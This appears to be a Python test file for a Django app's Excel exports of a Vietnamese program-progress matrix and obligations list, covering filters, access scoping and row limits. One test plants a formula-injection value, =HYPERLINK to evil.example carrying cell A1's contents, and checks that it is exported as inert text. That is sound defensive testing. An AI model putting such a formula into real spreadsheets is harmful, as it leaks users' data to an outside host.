"""Progress in Excel: the matrix and a subtree's obligations, with the page's filters, scoped
like the page, and text that stays text."""

import io

from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from danvan.orgs.models import Org
from danvan.programs.export import obligations_workbook
from danvan.programs.models import Obligation
from danvan.programs.selectors import obligations_in
from tests.conftest import login
from tests.programs.conftest import Y, cascade_and_adopt

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")'


def _sheets(response):
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/vnd.openxmlformats-officedocument.spreadsheetml")
    return load_workbook(io.BytesIO(response.content))


def test_the_matrix_in_excel_has_the_pages_rows_and_colours(program, world):
    cascade_and_adopt(program, world)
    Org.objects.filter(pk=world.cell2.pk).update(name=HOSTILE)
    url = reverse("rollup:matrix", args=[program.pk])
    response = login(world.observer).get(url, {"org": world.root.pk, "year": Y, "levels": 2, "format": "xlsx"})
    assert "754-CT-%C4%90U_" in response["Content-Disposition"]  # no slash, the Đ kept
    wb = _sheets(response)
    sheet = wb.worksheets[0]
    rows = list(sheet.iter_rows(values_only=True))
    tasks = list(program.tasks.order_by("position").values_list("ref", flat=True))
    assert rows[0] == ("Tổ chức", "Mã", "Cấp", "Tiếp nhận", *tasks)
    names = [r[0] for r in rows[1:]]
    assert names[0] == world.root.name and world.cell1.name in names and HOSTILE in names
    hostile = next(c for c in sheet["A"] if c.value == HOSTILE)
    assert hostile.data_type == "s"  # a name, not a live formula
    cell1 = next(r for r in rows[1:] if r[0] == world.cell1.name)
    assert cell1[3] == "đã tiếp nhận" and all(v is None or "/" in v for v in cell1[4:])
    coloured = [c for c in sheet[1 + names.index(world.cell1.name) + 1][4:] if c.value]
    assert coloured and all(c.fill.start_color.rgb.endswith(("ECEFF3", "FDE2C8", "F6B4AE", "CDECCF")) for c in coloured)
    legend = wb.worksheets[1]
    assert [c.value for c in legend[2]][:1] == [tasks[0]]


def test_the_obligations_in_excel_follow_the_pages_filters(program, world):
    cascade_and_adopt(program, world)
    task = program.tasks.order_by("position").first()
    url = reverse("rollup:obligations", args=[program.pk])
    client = login(world.observer)
    every = _sheets(client.get(url, {"org": world.root.pk, "year": Y, "format": "xlsx"})).worksheets[0]
    assert every.max_row - 1 == Obligation.objects.filter(task__program=program, start__year=Y).count()
    one = _sheets(client.get(url, {"org": world.root.pk, "year": Y, "task": task.pk, "format": "xlsx"})).worksheets[0]
    rows = list(one.iter_rows(min_row=2, values_only=True))
    assert rows and {r[2] for r in rows} == {task.ref}
    assert rows[0][4].year == Y  # dates stay dates
    done = _sheets(client.get(url, {"org": world.root.pk, "year": Y, "status": "done", "format": "xlsx"})).worksheets[0]
    assert done.max_row == 1  # nothing is done yet: the header alone


def test_exports_are_scoped_like_their_pages(program, world):
    cascade_and_adopt(program, world)
    for name in ("rollup:matrix", "rollup:obligations"):
        url = reverse(name, args=[program.pk])
        assert login(world.outsider).get(url, {"format": "xlsx"}).status_code == 404
        assert login(world.observer).get(url, {"format": "csv"}).status_code == 400
        # A secretary sees the program from their cell only: the root's rows are not theirs.
        assert login(world.secretary).get(url, {"org": world.root.pk, "format": "xlsx"}).status_code == 404


def test_a_list_longer_than_a_sheet_should_hold_says_so(program, world):
    cascade_and_adopt(program, world)
    found = obligations_in(program, world.root, Y, timezone.localdate())
    wb = obligations_workbook(found, title="x", limit=3)
    buffer = io.BytesIO()
    wb.save(buffer)
    rows = list(load_workbook(io.BytesIO(buffer.getvalue())).worksheets[0].iter_rows(values_only=True))
    assert len(rows) == 1 + 3 + 2
    assert rows[-1][0].startswith("Chỉ xuất 3 dòng đầu trong tổng số")
